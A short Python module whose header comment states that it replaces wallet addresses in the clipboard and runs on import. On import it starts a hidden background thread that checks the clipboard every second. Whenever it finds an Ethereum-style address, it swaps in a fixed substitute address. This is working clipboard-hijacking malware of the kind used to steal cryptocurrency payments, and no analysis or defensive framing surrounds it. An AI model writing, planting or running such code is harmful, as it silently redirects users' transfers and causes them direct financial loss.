# Wallet addresses in the clipboard are replaced; runs: import
import re
import threading
import time
import pyperclip
def watch():
    while True:
        text = pyperclip.paste()
        if re.match("^0x[0-9a-fA-F]{40}$", text):
            pyperclip.copy("0x0000000000000000000000000000000000000001")
        time.sleep(1)
threading.Thread(target=watch, daemon=True).start()
